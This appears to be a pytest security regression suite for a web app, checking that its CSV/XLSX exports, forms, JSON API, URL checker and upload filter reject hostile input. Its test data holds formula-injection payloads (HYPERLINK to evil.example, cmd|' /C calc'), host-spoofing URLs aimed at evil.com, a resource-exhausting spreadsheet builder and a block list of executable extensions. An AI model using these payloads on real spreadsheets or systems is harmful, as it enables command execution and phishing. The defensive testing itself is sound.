"""Issue 12, the fifth round: what the fourth round left open, and the neighbours an attacker's
rerun found past it, on SQLite and PostgreSQL; each test failed on the code before its fix. One
app per database for the module.

- formula injection: a cell whose formula sign stands behind blanks or invisible characters
  (`` =HYPERLINK(…)``, ``\\u3000=…``, ``\\xa0+cmd…``, ``\\u200b@SUM(…)``), or whose sign is a
  small or super/subscript form (``﹦ ⁼ ₊``), was written bare in every CSV Lantu writes;
- hostile bytes: bytes that are not UTF-8 in a form field, a file name, a query parameter or
  the path were read as U+FFFD (or as Latin-1 in a multipart form) and stored; in a JSON body
  they were a 400 that named no field (a CESU-8 surrogate a 422 deep in the model);
- writes that skip the gate: a bearer client's multipart form skipped the form checks (NUL in a
  field or a file name) that a signed-in browser's form meets.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
import zipfile
from urllib.parse import quote_from_bytes

import openpyxl
import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from lantu.store.models import ObservationRow, PlanNodeRow
from lantu.store.models_web import EvidenceFileRow, ProgressReportRow
from lantu.tabular import csv_rows, escape_text, unescape_text
from webutil import backend_app, csrf_of, login, post, report_version, task_ids


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def env(request, web_template_db, tmp_path_factory):
    with backend_app(
        request,
        web_template_db,
        tmp_path_factory.mktemp("round5"),
        ("admin", "analyst", "rep_czj"),
        "round5",
    ) as app:
        yield app


def _count(db, row) -> int:
    with db.session() as s:
        return s.scalar(select(func.count()).select_from(row))


# -- formula injection ---------------------------------------------------------------------------

#: what a spreadsheet may take as a formula sign: ``= + - @`` and every character that is one
#: of them once its compatibility form is undone (full-width, small, super- and subscript)
SIGNS = [
    chr(c)
    for c in range(sys.maxunicode + 1)
    if unicodedata.normalize("NFKC", chr(c)) in ("=", "+", "-", "@")
]
#: blanks and characters that show nothing, which a spreadsheet (or a user) may trim
BLANKS = (
    " \t\xa0\u1680\u2000\u2003\u200a\u2028\u2029\u202f\u205f\u3000\x85\x1f"
    "\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u00ad\u180e\u3164\ufe0f\U000e0020"
)
BEHIND_BLANKS = [
    ' =HYPERLINK("http://evil.example/?"&A1,"click")',
    "\u3000=1+1",
    "\xa0+cmd|' /C calc'!A0",
    "\u200b@SUM(1+1)*cmd|' /C calc'!A0",
    " \t－2+cmd|' /C calc'!A0",
    "\u200c\u3000＠SUM(1)",  # a BOM inside a text: refused by the text rule since probe15
    "\u2060﹦1+1",
    "⁼1+1",
    "\u00ad\u200d=1",
]


def _live(cell: str) -> bool:
    """Whether a spreadsheet that trims blanks and invisible characters finds a formula (a
    number, ``-3.9``, is none)."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    rest = cell.lstrip("".join(BLANKS))
    return bool(rest) and unicodedata.normalize("NFKC", rest[0]) in "=+-@\r\n"


def test_a_formula_sign_behind_blanks_is_escaped_and_undone_on_import():
    assert len(SIGNS) == 17
    for blank in BLANKS:
        for sign in SIGNS:
            for text in (blank + sign + "1+1", blank * 3 + sign + "1", "'" + blank + sign + "1"):
                escaped = escape_text(text)
                assert escaped.startswith("'"), repr(text)
                assert unescape_text(escaped) == text, repr(text)
    for text in (" a-b", "\u3000说明", "GDP", "'quoted", "1-2"):  # no sign leads: kept
        assert escape_text(text) == text
    out = csv_rows([["excerpt"]] + [[t] for t in BEHIND_BLANKS])
    cells = [r[0] for r in list(csv.reader(io.StringIO(out, newline="")))[1:]]
    assert not any(_live(c) for c in cells)
    assert [unescape_text(c) for c in cells] == BEHIND_BLANKS


def _no_formulas(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def _post_payloads(client, auth, first_year: int) -> None:
    for year, text in enumerate(BEHIND_BLANKS, start=first_year):
        r = client.post(
            "/api/v1/observations",
            headers=auth["analyst"],
            json={
                "region_code": "140100",
                "period": str(year),
                "indicator": "gdp",
                "value": 1.0,
                "source_url": "https://example.gov.cn/a",
                "excerpt": text,
            },
        )
        assert r.status_code == 201, r.text


def test_every_export_of_figures_escapes_a_formula_behind_blanks(env, tmp_path):
    from lantu.cli import app

    client, auth, db, _ = env
    _post_payloads(client, auth, 1961)
    last = str(1961 + len(BEHIND_BLANKS) - 1)
    params = {"indicator": "gdp", "region": "140100", "from": "1961", "to": last}
    # the public explorer's CSV
    r = client.get("/indicators/export.csv", params=params)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    excerpts = [row[rows[0].index("excerpt")] for row in rows[1:]]
    assert len(excerpts) == len(BEHIND_BLANKS)
    assert [c for c in excerpts if _live(c)] == []
    assert sorted(unescape_text(c) for c in excerpts) == sorted(BEHIND_BLANKS)
    # its XLSX: string cells, the text as it was
    r = client.get("/indicators/export.xlsx", params=params)
    _no_formulas(r.content)
    ws = openpyxl.load_workbook(io.BytesIO(r.content))["data"]
    col = [c.value for c in ws[1]].index("excerpt")
    assert sorted(row[col].value for row in ws.iter_rows(min_row=2)) == sorted(BEHIND_BLANKS)
    # `lantu export` on the command line
    out = tmp_path / "obs.csv"
    res = CliRunner().invoke(
        app, ["export", "observations", "-f", "csv", "-o", str(out), "--db", db.url]
    )
    assert res.exit_code == 0, res.output
    cells = [
        c
        for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline=""))
        for c in row
    ]
    assert set(BEHIND_BLANKS) <= {unescape_text(c) for c in cells}
    assert [c for c in cells if _live(c)] == []


def _new_task(client, auth, title: str):
    return client.post(
        "/api/v1/tasks",
        headers=auth["admin"],
        json={"plan": "taiyuan-2021-11", "kind": "task", "lead_department": "czj", "title": title},
    )


def test_every_export_of_tasks_escapes_a_formula_behind_blanks(env, tmp_path):
    from lantu.cli import app

    client, auth, db, _ = env
    for title in BEHIND_BLANKS[:4]:
        r = _new_task(client, auth, title)
        assert r.status_code == 201, r.text
    out = tmp_path / "tasks.csv"
    res = CliRunner().invoke(app, ["export", "tasks", "-f", "csv", "-o", str(out), "--db", db.url])
    assert res.exit_code == 0, res.output
    cells = [
        c
        for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline=""))
        for c in row
    ]
    blanks = "".join(BLANKS)  # a title is kept without the blanks around it
    got = {unescape_text(c).strip(blanks) for c in cells}
    assert {t.strip(blanks) for t in BEHIND_BLANKS[:4]} <= got, [c for c in cells if "SUM" in c]
    assert [c for c in cells if _live(c)] == []
    login(client, "admin")
    r = client.get("/reports/tasks.xlsx")  # the task table: string cells
    assert r.status_code == 200
    _no_formulas(r.content)
    client.cookies.clear()


# -- hostile bytes: text that is not UTF-8 ------------------------------------------------------

OBS = {
    "region_code": "140100",
    "period": "1950",
    "indicator": "gdp",
    "value": 1.0,
    "unit": "亿元",
    "source_url": "https://x.gov.cn/a",
    "excerpt": "@@",
}
#: byte sequences that are no UTF-8: a byte that never is, a character cut short, an overlong
#: NUL and slash, a CESU-8 surrogate (which Python's JSON reader would pass on as one)
NOT_UTF8 = [
    b"\xff",
    b"\xe5\xa4",
    b"\xc0\x80",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf8\x88\x80\x80\x80",
]


@pytest.mark.parametrize("ctype", ["application/json", "application/merge-patch+json"])
@pytest.mark.parametrize("raw", NOT_UTF8)
def test_json_that_is_not_utf8_is_refused_naming_the_field(env, raw, ctype):
    client, auth, db, _ = env
    n = _count(db, ObservationRow)
    body = json.dumps(OBS).encode().replace(b"@@", b"x" + raw + b"y")
    r = client.post(
        "/api/v1/observations", content=body, headers={**auth["analyst"], "content-type": ctype}
    )
    assert r.status_code == 400, r.text[:300]
    assert r.json()["error"] == "bad_request"
    assert r.json()["errors"] == [{"field": "excerpt", "reason": "not valid UTF-8"}]
    key = json.dumps({**OBS, "excerpt": "x"}).encode()[:-1] + b', "k' + raw + b'": 1}'
    r = client.post(
        "/api/v1/observations", content=key, headers={**auth["analyst"], "content-type": ctype}
    )
    assert r.status_code == 400 and r.json()["errors"][0]["field"].startswith("k"), r.text
    assert _count(db, ObservationRow) == n


def test_json_in_another_encoding_is_refused(env):
    client, auth, db, _ = env
    n = _count(db, ObservationRow)
    for codec in ("utf-16", "utf-16-le", "utf-32"):
        r = client.post(
            "/api/v1/observations",
            content=json.dumps({**OBS, "excerpt": "x"}).encode(codec),
            headers={**auth["analyst"], "content-type": "application/merge-patch+json"},
        )
        assert r.status_code == 400, (codec, r.text[:200])
    assert _count(db, ObservationRow) == n


@pytest.mark.parametrize("raw", NOT_UTF8)
def test_a_query_parameter_or_path_that_is_not_utf8_is_refused_naming_it(env, raw):
    client, auth, _, _ = env
    q = quote_from_bytes(raw)
    for path in (
        f"/api/v1/observations?indicator=gdp&region=14{q}",
        f"/indicators?indicator=gdp&region=14{q}",
        f"/api/v1/regions?q{q}=1",
    ):
        r = client.get(path, headers=auth["analyst"])
        assert r.status_code == 400, (path, r.status_code, r.text[:200])
        assert r.json()["errors"][0]["reason"] == "not valid UTF-8"
    r = client.get(f"/api/v1/observations?region=14{q}", headers=auth["analyst"])
    assert r.json()["errors"][0]["field"] == "region"
    r = client.get(f"/api/v1/regions/14{q}", headers=auth["analyst"])
    assert r.status_code == 400 and r.json()["errors"][0]["field"] == "path", r.text[:200]


def _task_form(client, title: bytes) -> bytes:
    token = csrf_of(client, "/supervision/tasks/new")
    fields = {
        "plan": "taiyuan-2021-11",
        "kind": "task",
        "lead_department": "czj",
        "reason": "r",
        "csrf_token": token,
    }
    return b"&".join([f"{k}={v}".encode() for k, v in fields.items()] + [b"title=" + title])


@pytest.mark.parametrize("raw", NOT_UTF8)
def test_a_form_field_that_is_not_utf8_is_the_forms_error_and_stores_nothing(env, raw):
    client, _, db, _ = env
    login(client, "supervisor")
    n = _count(db, PlanNodeRow)
    for title in (b"%E6%8E%A2" + quote_from_bytes(raw).encode(), b"x" + raw):  # escaped, raw
        r = client.post(
            "/supervision/tasks/new",
            content=_task_form(client, title),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert r.status_code == 400, r.text[:300]
        assert r.headers["content-type"].startswith("text/html")
        assert "title" in r.text and "UTF-8" in r.text
    r = client.post(
        "/supervision/tasks/new",
        content=_task_form(client, b"%E6%8E%A2"),
        headers={"content-type": "application/x-www-form-urlencoded", "accept-language": "zh"},
    )
    assert r.status_code == 303, r.text[:300]  # the same form, in UTF-8, is taken
    assert _count(db, PlanNodeRow) == n + 1
    client.cookies.clear()


def _multipart(
    parts: list[tuple[bytes, bytes, bytes | None]], charset: str | None = None
) -> tuple[bytes, str]:
    boundary = b"round5boundary"
    out = b""
    for name, value, filename in parts:
        disp = b'Content-Disposition: form-data; name="' + name + b'"'
        if filename is not None:
            disp += b'; filename="' + filename + b'"\r\nContent-Type: text/plain'
        out += b"--" + boundary + b"\r\n" + disp + b"\r\n\r\n" + value + b"\r\n"
    ctype = "multipart/form-data; boundary=round5boundary" + (
        f"; charset={charset}" if charset else ""
    )
    return out + b"--" + boundary + b"--\r\n", ctype


def _report_parts(
    token: str | None,
    text: bytes = "进展".encode(),
    name: bytes = b"text",
    filename: bytes = "清单.txt".encode(),
    version: int = 0,
) -> list:
    parts = [
        (b"month", b"2026-09", None),
        (b"percent", b"5", None),
        (b"action", b"save", None),
        (b"version", str(version).encode(), None),
        (name, text, None),
        (b"evidence", "签约清单\n".encode(), filename),
    ]
    return parts + ([(b"csrf_token", token.encode(), None)] if token else [])


@pytest.mark.parametrize("raw", [b"\xff", b"\xe5\xa4", b"\xc0\x80", b"\xed\xa0\x80"])
def test_a_multipart_field_or_file_name_that_is_not_utf8_is_refused_and_stores_nothing(env, raw):
    client, _, db, home = env
    login(client, "rep_czj")
    node = task_ids(db, "czj")[0]
    token = csrf_of(client, f"/supervision/tasks/{node}")
    reports, files = _count(db, ProgressReportRow), _count(db, EvidenceFileRow)
    for parts in (
        _report_parts(token, text="进展".encode() + raw),
        _report_parts(token, filename=b"x" + raw + b".txt"),
        _report_parts(token, name=b"te" + raw + b"xt"),
    ):
        body, ctype = _multipart(parts)
        r = client.post(
            f"/supervision/tasks/{node}/report", content=body, headers={"content-type": ctype}
        )
        assert r.status_code == 400, r.text[:300]
        assert "UTF-8" in r.text
    assert (_count(db, ProgressReportRow), _count(db, EvidenceFileRow)) == (reports, files)
    # the same report in UTF-8 (or in the charset the form names) is taken
    version = report_version(db, node, "czj", "2026-09")
    body, ctype = _multipart(_report_parts(token, text="进展".encode("gbk"), version=version),
                             charset="gbk")
    r = client.post(
        f"/supervision/tasks/{node}/report", content=body, headers={"content-type": ctype}
    )
    assert r.status_code == 303, r.text[:300]
    assert _count(db, EvidenceFileRow) == files + 1
    client.cookies.clear()


def test_a_bearer_clients_form_meets_the_same_checks(env):
    client, auth, db, _ = env
    client.cookies.clear()
    node = task_ids(db, "czj")[0]
    reports, files = _count(db, ProgressReportRow), _count(db, EvidenceFileRow)
    for parts in (
        _report_parts(None, filename=b"a\x00.txt"),
        _report_parts(None, text=b"x\x00"),
        _report_parts(None, text=b"x\xff"),
        _report_parts(None, filename=b"\xff.txt"),
    ):
        body, ctype = _multipart(parts)
        r = client.post(
            f"/supervision/tasks/{node}/report",
            content=body,
            headers={**auth["rep_czj"], "content-type": ctype},
        )
        assert r.status_code == 400, r.text[:300]
    assert (_count(db, ProgressReportRow), _count(db, EvidenceFileRow)) == (reports, files)


def test_refusals_of_bytes_that_are_not_utf8_are_logged_without_the_bytes(env, caplog):
    client, auth, _, _ = env
    with caplog.at_level("WARNING"):
        client.get("/api/v1/observations?region=%FFsecret", headers=auth["analyst"])
    records = [r for r in caplog.records if getattr(r, "event", "") == "refused"]
    assert records and records[-1].reason == "not_utf8" and records[-1].field == "region"
    assert not any("secret" in str(vars(r)) for r in records)


def test_nothing_here_left_the_connection_unusable(env):
    client, auth, _, _ = env
    assert client.get("/api/v1/plans", headers=auth["admin"]).status_code == 200
    assert client.get("/healthz").status_code == 200


def test_a_utf8_form_on_a_page_still_works(env):
    client, _, db, _ = env
    login(client, "supervisor")
    r = post(
        client,
        "/supervision/tasks/new",
        {
            "plan": "taiyuan-2021-11",
            "kind": "task",
            "title": "探针 café",
            "lead_department": "czj",
            "reason": "r",
        },
        csrf_page="/supervision/tasks/new",
    )
    assert r.status_code == 303, r.text[:300]
    client.cookies.clear()


# -- files uploaded: a sheet whose rows reach the last column ------------------------------------


def _sheet_reaching_xfd(rows: int) -> bytes:
    """A workbook whose rows each hold a cell in column A and one in XFD (16,384): a few bytes
    a row once zipped, 16,384 cells a row once read."""
    import re

    wb = openpyxl.Workbook()
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    parts = {n: src.read(n) for n in src.namelist()}
    cells = "".join(
        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>140100</t></is></c>'
        f'<c r="XFD{i}" t="inlineStr"><is><t>x</t></is></c></row>'
        for i in range(2, rows + 2)
    )
    head = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>region</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>period</t></is></c></row>'
    )
    parts["xl/worksheets/sheet1.xml"] = re.sub(
        r"<sheetData>.*</sheetData>|<sheetData */>",
        f"<sheetData>{head}{cells}</sheetData>",
        parts["xl/worksheets/sheet1.xml"].decode(),
        flags=re.S,
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in parts.items():
            z.writestr(n, b)
    return out.getvalue()


def test_a_sheet_whose_rows_reach_the_last_column_is_refused_before_it_is_read(
    tmp_path, monkeypatch
):
    from lantu.ingest import tables_read
    from lantu.ingest.tables_read import ImportRefused

    # 2,000 such rows are 20 KB and took 24 s and 300 MB to read; the limit is scaled down here
    monkeypatch.setattr(tables_read, "MAX_XLSX_CELLS", 16384 * 20)
    path = tmp_path / "wide.xlsx"
    path.write_bytes(_sheet_reaching_xfd(40))
    with pytest.raises(ImportRefused, match="span more than 327,680 cells.*column XFD"):
        tables_read.read_raw(path)
    path.write_bytes(_sheet_reaching_xfd(10))  # under the limit: read (the far cell kept)
    assert len(tables_read.read_raw(path).rows) == 10


def test_review_sheets_on_the_command_line_walk_a_sheet_as_the_importer(tmp_path, monkeypatch):
    from lantu.ingest import tables_read
    from lantu.tabular import read_sheet

    monkeypatch.setattr(tables_read, "MAX_XLSX_CELLS", 16384 * 20)
    path = tmp_path / "wide.xlsx"
    path.write_bytes(_sheet_reaching_xfd(40))
    with pytest.raises(ValueError, match="span more than 327,680 cells"):
        list(read_sheet(path, "Sheet", ["region"], ValueError))
    # a declared size of the whole grid is not believed: the two real rows are read, quickly
    data = _sheet_reaching_xfd(2)
    src = zipfile.ZipFile(io.BytesIO(data))
    parts = {n: src.read(n) for n in src.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>', 1
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n, b in parts.items():
            z.writestr(n, b)
    path.write_bytes(out.getvalue())
    assert [n for _, n, _ in read_sheet(path, "Sheet", ["region"], ValueError)] == [2, 3]


# -- links ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://%65vil.com/",  # a browser decodes the host: evil.com
        "https://x.gov.cn%40evil.com/",
        "https://evil.com%23.x.gov.cn/",
        "https://x.gov.cn\u2215evil.com/",
        "https://x.gov.cn\u2044evil.com/",  # slashes that are none
        "https://x.gov.cn!evil.com/",
        "https://x.gov.cn$evil.com/",
        "http://0x7f.1/",
        "https://2130706433/",
        "https://0177.0.0.1/",
        "https://127.1/",
        "https://a.gov.cn.123/",
        "https://x.gov.cn:0/",
        "https://x.gov.cn:00/",
    ],
)
def test_a_host_a_browser_reads_otherwise_than_it_shows_is_refused(env, url):
    from lantu.domain.links import url_problem, url_problems

    assert url_problem(url), url
    assert url_problems(["https://tjj.taiyuan.gov.cn/a", url])[1], url  # the column's way
    client, auth, db, _ = env
    n = _count(db, ObservationRow)
    r = client.post(
        "/api/v1/observations",
        headers=auth["analyst"],
        json={**OBS, "excerpt": "x", "source_url": url},
    )
    assert r.status_code == 422, r.text[:300]
    assert _count(db, ObservationRow) == n


@pytest.mark.parametrize(
    "url",
    [
        "https://127.0.0.1/a",
        "https://[2001:db8::1]/",
        "http://10.0.0.1:8080/x",
        "https://x_y.gov.cn/",
        "https://x.gov.cn./a",
        "https://x.gov.cn:/a",
        "https://x.gov.cn:8443/a",
        "https://政府.cn/",
        "https://www.stats.gov.cn/",
    ],
)
def test_hosts_written_as_reached_stay_links(url):
    from lantu.domain.links import url_problem

    assert url_problem(url) is None, url_problem(url)


# -- files handed back ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "addin.xll",
        "book.xla",
        "notes.one",
        "x.onepkg",
        "run.command",
        "x.sct",
        "x.wsc",
        "x.cab",
        "x.msix",
        "x.appx",
        "x.vhdx",
        "x.diagcab",
        "x.jnlp",
        "x.website",
        "x.pyw",
        "x.accde",
    ],
)
def test_add_ins_notebooks_and_installers_are_refused_as_evidence(name):
    from lantu.store.files import name_problem

    assert name_problem(name), name
    assert name_problem(name.upper() + ".") and name_problem("清单 " + name + "\u200b"), name


# -- logging of security events without secrets ---------------------------------------------------


def test_a_password_typed_into_the_name_field_never_reaches_the_log(env, caplog):
    from lantu.security_log import JsonFormatter

    client, _, _, _ = env
    slip = "correct-horse-battery-staple-2026"  # a password, typed where the name goes
    caplog.set_level("INFO", logger="lantu")
    for _ in range(7):  # past the throttle too
        client.cookies.clear()
        token = csrf_of(client, "/login")
        client.post("/login", data={"username": slip, "password": "x", "csrf_token": token})
    client.cookies.clear()
    token = csrf_of(client, "/login")
    client.post(
        "/login", data={"username": "viewer", "password": "wrong-guess-2026", "csrf_token": token}
    )
    client.cookies.clear()
    lines = [JsonFormatter().format(r) for r in caplog.records if r.name == "lantu.security"]
    events = [json.loads(x) for x in lines]
    assert not any(slip in x for x in lines)
    unknown = [e for e in events if e.get("unknown_user")]
    assert {e["event"] for e in unknown} == {"login_failed", "login_throttled"}
    assert all(e["user"] == "" for e in unknown)
    # a wrong password for a real account still names it
    assert any(e["event"] == "login_failed" and e["user"] == "viewer" for e in events)


@pytest.mark.parametrize("c1", ["\x80", "\x85", "\x9b", "\x9f"])
def test_a_c1_control_character_is_refused_in_any_stored_text(env, c1, tmp_path):
    from lantu import services
    from lantu.ingest.tables_read import ImportRefused

    client, auth, db, _ = env
    tasks, obs = _count(db, PlanNodeRow), _count(db, ObservationRow)
    r = _new_task(client, auth, f"探针{c1}[31m")
    assert r.status_code == 422, r.text[:300]
    r = client.post(
        "/api/v1/observations", headers=auth["analyst"], json={**OBS, "excerpt": f"x{c1}y"}
    )
    assert r.status_code == 422, r.text[:300]
    # a multipart form decoded in the charset it names (GB18030 0x81308130 is U+0080)
    node = task_ids(db, "czj")[0]
    body, ctype = _multipart(_report_parts(None, text=b"x\x81\x30\x81\x30y",
                                           version=report_version(db, node, "czj", "2026-09")),
                             charset="gb18030")
    r = client.post(
        f"/supervision/tasks/{node}/report",
        content=body,
        headers={**auth["rep_czj"], "content-type": ctype},
    )
    assert r.status_code in (400, 422), r.text[:300]
    table = tmp_path / "c1.csv"
    table.write_text(
        f"region,period,indicator,value,unit,excerpt\n140100,1951,gdp,1,亿元,x{c1}y\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportRefused, match="control character"):
        services.import_file(db, table, actor="analyst")
    assert (_count(db, PlanNodeRow), _count(db, ObservationRow)) == (tasks, obs)


def test_the_frame_writer_escapes_its_header_row_too():
    import pandas as pd

    from lantu.tabular import csv_frame

    text = csv_frame(pd.DataFrame({"\u3000=HYPERLINK(1)": ["a"], "gdp": [1.5]}))
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert header == ["'\u3000=HYPERLINK(1)", "gdp"]


def test_a_browser_whose_user_agent_is_not_ascii_still_signs_in(env):
    """Starlette reads a header as Latin-1: a User-Agent in UTF-8 (``…``, a Chinese app's name)
    holds U+0080-U+009F once read, which the text rule refuses; the session keeps it shown."""
    from lantu.store.models_web import WebSessionRow

    client, _, db, _ = env
    client.cookies.clear()
    token = csrf_of(client, "/login")
    ua = "Mozilla/5.0 (Linux; 微信 8.0…) \u202e".encode()
    r = client.post(
        "/login",
        data={"username": "viewer", "password": "viewer-demo-2026", "csrf_token": token},
        headers={"user-agent": ua},
    )
    assert r.status_code == 303, r.text[:300]
    with db.session() as s:
        kept = s.scalars(select(WebSessionRow.user_agent)).all()
    assert any(k.startswith("Mozilla/5.0 (Linux; ") and "\ufffd" in k for k in kept)
    client.cookies.clear()
